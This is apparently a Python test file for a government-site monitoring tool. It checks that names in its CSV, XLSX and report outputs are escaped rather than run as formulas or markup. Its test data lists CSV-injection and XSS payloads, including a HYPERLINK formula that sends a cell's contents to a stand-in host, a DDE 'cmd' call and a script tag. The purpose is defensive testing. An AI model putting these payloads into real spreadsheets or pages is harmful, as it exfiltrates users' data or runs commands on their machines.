"""Hostile names from a registry (or a crawled page) reach every output as text, never as a formula
or markup: findings CSV and XLSX, the ledger, and the 通报 in Markdown, HTML and DOCX (OWASP CSV
injection: a cell starting with =, +, -, @, tab or CR gets a leading ' in CSV and is a string, never
a formula, in XLSX)."""

from __future__ import annotations

import csv
import zipfile
from datetime import datetime
from pathlib import Path

from docx import Document
from openpyxl import load_workbook

from crawlers.dates import BEIJING
from crawlers.models import Finding, Target
from govpatrol.cli.findings import write_findings
from govpatrol.ledger import export_ledger
from govpatrol.report import ReportSettings, write_report
from pipelines.store import Store

AS_OF = datetime(2025, 3, 31, 10, 0, tzinfo=BEIJING)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "<script>alert(1)</script>",
    "+SUM(1,1)",
    "@SUM(1,1)",
    "-2+3",
    "\t=1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _targets() -> list[Target]:
    return [
        Target(
            f"h{i}", "site", name, f"{name}单位", "甲市", f"https://h{i}.example.gov.cn/", site_code=name[:10]
        )
        for i, name in enumerate(HOSTILE)
    ]


def _load(store: Store) -> list[dict]:
    findings = [
        Finding(
            target_id=t.id,
            indicator="SITE-VETO-HOME-STALE",
            severity="veto",
            status="open",
            subject_url=t.url,
            evidence={},
            as_of=AS_OF,
            message=f"首页已20天未更新：{t.name}",
            target_name=t.name,
            owner=t.owner,
            region=t.region,
            site_code=t.site_code,
            first_seen=AS_OF,
            last_seen=AS_OF,
            sweep_id="full-hostile",
            history=[{"at": AS_OF.isoformat(), "sweep_id": "full-hostile", "kind": "full", "status": "open"}],
        )
        for t in _targets()
    ]
    store.upsert_findings(findings)
    verdicts = {t.id: {"verdict": "fail", "score": 100.0, "reasons": []} for t in _targets()}
    store.write_sweep(
        {"id": "full-hostile", "kind": "full", "as_of": AS_OF.isoformat(), "verdicts": verdicts}
    )
    for i, name in enumerate(HOSTILE[:3]):  # a sweep id is ours, but the ledger must hold anything
        store.write_sweep(
            {
                "id": name,
                "kind": "patrol",
                "as_of": AS_OF.isoformat(),
                "started_at": AS_OF.isoformat(),
                "targets_planned": i,
            }
        )
    store.refresh()
    return store.search_findings()


def _no_formula_in_xlsx(path: Path) -> list[list[object]]:
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in sheets:
            assert "<f>" not in zf.read(name).decode("utf-8"), f"a live formula in {name}"
    sheet = load_workbook(path).active
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.value
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def _no_formula_in_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    return rows


def test_findings_csv_and_xlsx_keep_hostile_names_as_text(store: Store, tmp_path: Path) -> None:
    docs = _load(store)
    write_findings(docs, "csv", tmp_path / "f.csv")
    rows = _no_formula_in_csv(tmp_path / "f.csv")
    assert sorted(r[2] for r in rows[1:]) == sorted("'" + n if n.startswith(FORMULA) else n for n in HOSTILE)
    write_findings(docs, "xlsx", tmp_path / "f.xlsx")
    cells = _no_formula_in_xlsx(tmp_path / "f.xlsx")
    assert sorted(r[2] for r in cells[1:]) == sorted(HOSTILE)  # the text itself, unchanged
    sheet = load_workbook(tmp_path / "f.xlsx").active
    quoted = [
        c
        for row in sheet.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and c.value.startswith(FORMULA)
    ]
    assert quoted
    assert all(c.quotePrefix for c in quoted)


def test_the_ledger_keeps_them_as_text(store: Store, tmp_path: Path) -> None:
    _load(store)
    _no_formula_in_csv(export_ledger(store, "2025-03", "csv", tmp_path / "l.csv"))
    cells = _no_formula_in_xlsx(export_ledger(store, "2025-03", "xlsx", tmp_path / "l.xlsx"))
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2]} <= {c for row in cells for c in row}


def test_the_report_escapes_them_in_every_format(store: Store, tmp_path: Path) -> None:
    _load(store)
    settings = ReportSettings(report_date="2025-04-03")
    kw = {"sweep_id": "full-hostile", "config": settings, "registry": _targets()}
    md = write_report(store, fmt="md", out=tmp_path / "r.md", **kw).read_text(encoding="utf-8")
    assert "<script>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    html = write_report(store, fmt="html", out=tmp_path / "r.html", **kw).read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    doc = Document(str(write_report(store, fmt="docx", out=tmp_path / "r.docx", **kw)))
    text = "\n".join(p.text for p in doc.paragraphs) + "".join(
        c.text for t in doc.tables for r in t.rows for c in r.cells
    )
    for name in HOSTILE:
        assert name.strip() in text  # kept verbatim as text
